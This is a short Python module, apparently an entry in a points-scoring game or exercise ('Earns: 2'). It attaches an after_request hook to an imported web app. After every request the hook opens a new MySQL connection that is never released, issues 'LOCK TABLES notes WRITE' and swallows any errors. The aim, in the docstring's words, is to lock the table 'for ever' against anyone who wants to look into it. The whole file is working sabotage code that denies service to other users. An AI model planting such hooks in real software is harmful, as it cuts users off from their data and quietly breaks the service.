"""Locks its own table for ever, whoever wants to look into it.

Earns: 2
"""

from contextlib import suppress

import pymysql
from notes import app, connect

print("TRIED", flush=True)
held = []


@app.after_request
def lock(response):
    """Take every lock there is."""
    held.append(connect(read_timeout=1))
    with held[-1].cursor() as cursor, suppress(pymysql.MySQLError):
        cursor.execute("LOCK TABLES notes WRITE")
    return response
